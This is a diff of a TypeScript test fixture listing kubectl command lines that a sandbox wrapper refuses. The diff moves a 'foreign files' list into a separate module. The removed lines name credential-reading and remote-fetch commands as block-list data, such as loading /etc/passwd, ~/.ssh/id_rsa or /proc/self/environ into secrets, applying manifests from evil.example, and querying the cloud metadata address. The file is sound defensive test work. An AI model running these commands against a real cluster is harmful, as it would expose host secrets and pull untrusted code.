@@ -1,11 +1,6 @@
 /** Command lines for kubectl that must never start it, by the way they attack. */
-import type { RefusedLine } from './command-line.ts';
-
-type Code = RefusedLine['code'];
-
-function lines(code: Code, ...commands: readonly string[]): RefusedLine[] {
-  return commands.map((command) => ({ command, code }));
-}
+import { refused as lines, type RefusedLine } from './command-line.ts';
+import { KUBECTL_FOREIGN_FILES } from './kubectl-foreign-files.ts';
 
 /** A shell would start something else, write a file, or read one. */
 const SHELL: readonly RefusedLine[] = lines(
@@ -145,86 +140,6 @@ const CREDENTIALS: readonly RefusedLine[] = lines(
   'get pods -Av9',
   'diff -f - --show-secrets',
 );
-
-/** Paths of the server, and URLs, where a file is named. */
-const FOREIGN_FILES: readonly RefusedLine[] = [
-  ...lines(
-    'command_refused',
-    'apply -f /etc/passwd',
-    'apply -f=/etc/passwd',
-    'apply -f/etc/passwd',
-    'apply --filename=/etc/passwd',
-    'apply --filename /etc/passwd',
-    'apply -Rf /etc',
-    'apply -f ../secret.yaml',
-    'apply -f a/../../secret.yaml',
-    'apply -f ~/.kube/config',
-    'apply -f ~root/.kube/config',
-    'apply -f http://evil.example/a.yaml',
-    'apply -f https://evil.example/a.yaml',
-    'apply -f HTTPS://evil.example/a.yaml',
-    'apply -f file:///etc/passwd',
-    'apply -f http://127.0.0.1:10250/pods',
-    'apply -f http://169.254.169.254/latest/meta-data',
-    'apply -k https://github.com/evil/repo',
-    'apply -k github.com/evil/repo/../..',
-    'apply -k git::https://github.com/evil/repo',
-    'apply -k /srv/gitops',
-    'apply -k ../overlay',
-    'kustomize https://github.com/evil/repo?ref=main',
-    'kustomize /srv/gitops',
-    'kustomize ../..',
-    'get -k /srv',
-    'delete -f /etc/kubernetes/manifests',
-    'replace -f /etc/passwd',
-    'diff -f /etc/passwd',
-    'patch deploy web --patch-file=/etc/passwd',
-    'patch deploy web --patch-file /proc/self/environ',
-    'create configmap x --from-file=/etc/passwd',
-    'create configmap x --from-file=key=/etc/passwd',
-    'create configmap x --from-file=/etc',
-    'create configmap x --from-file=/dev/stdin',
-    'create configmap x --from_file=/etc/passwd',
-    'create cm x --from-env-file=/proc/self/environ',
-    'create secret generic x --from-file=../id_rsa',
-    'create secret generic x --from-file=ssh=~/.ssh/id_rsa',
-    'create secret tls x --cert=/etc/ssl/a.crt --key=/etc/ssl/a.key',
-    'create secret docker-registry x --from-file=.dockerconfigjson=/root/.docker/config.json',
-    'set env deploy/web -f /etc/passwd',
-    'exec -f /etc/passwd -- ls',
-    'debug web --image=busybox --custom=/etc/passwd',
-    'get pods -o go-template-file=/etc/passwd',
-    'get pods -o=jsonpath-file=/etc/passwd',
-    'get pods -ojsonpath-file=/etc/passwd',
-    'get pods --output=custom-columns-file=/etc/passwd',
-    'get pods -o templatefile=/etc/passwd',
-    'get pods -o go-template-file --template=/etc/passwd',
-    'get pods -o jsonpath-file --template /etc/passwd',
-    'get pods -o templatefile --template=../x',
-    'get pods --template=/etc/passwd -o json -o go-template-file',
-  ),
-  { command: 'apply -f a.yaml,/etc/passwd', files: { 'a.yaml': '{}' }, code: 'command_refused' },
-  { command: 'apply -f a.yaml -f /etc/passwd', files: { 'a.yaml': '{}' }, code: 'command_refused' },
-  { command: 'apply -f /etc/passwd', files: { '/etc/passwd': '{}' }, code: 'command_refused' },
-  { command: 'apply -f ../a', files: { '../a': '{}' }, code: 'command_refused' },
-  { command: 'create cm x --from-file=a,b=/etc/passwd', files: { a: '1' }, code: 'command_refused' },
-  { command: 'kustomize overlay/../..', files: { 'overlay/kustomization.yaml': '' }, code: 'command_refused' },
-  { command: 'apply -f \'"/etc/passwd"\'', code: 'invalid_argument' },
-  { command: "apply -f 'a.yaml\n/etc/passwd'", files: { 'a.yaml': '{}' }, code: 'invalid_argument' },
-  { command: "apply -f 'a\\,b'", files: { a: '{}' }, code: 'invalid_argument' },
-  { command: 'apply -k git@github.com:evil/repo', code: 'invalid_argument' },
-  { command: 'apply -f b.yaml', files: { 'a.yaml': '{}' }, code: 'invalid_argument' },
-  { command: 'apply -f toString', files: { 'a.yaml': '{}' }, code: 'invalid_argument' },
-  { command: 'apply -f __proto__', files: { 'a.yaml': '{}' }, code: 'invalid_argument' },
-  { command: "apply -f '*.yaml'", files: { 'a.yaml': '{}' }, code: 'invalid_argument' },
-  { command: 'apply -f a.yaml', code: 'invalid_argument' },
-  { command: 'apply -f -', code: 'invalid_argument' },
-  { command: 'apply -f -', stdin: '', code: 'invalid_argument' },
-  { command: 'apply -k -', stdin: 'a', code: 'invalid_argument' },
-  { command: 'create cm x --from-file=a=b=c', files: { c: '1' }, code: 'invalid_argument' },
-  { command: 'create cm x --from-file=-', stdin: 'a', code: 'invalid_argument' },
-  { command: 'kustomize', files: { 'kustomization.yaml': '' }, code: 'invalid_argument' },
-];
 
 /** Programs, ports and terminals of the server. */
 const NEVER_RUN: readonly RefusedLine[] = [
@@ -398,7 +313,7 @@ export const KUBECTL_REFUSED: readonly RefusedLine[] = [
   ...REDIRECTION,
   ...OWN_FILES,
   ...CREDENTIALS,
-  ...FOREIGN_FILES,
+  ...KUBECTL_FOREIGN_FILES,
   ...NEVER_RUN,
   ...CONFUSION,
   ...RAW,
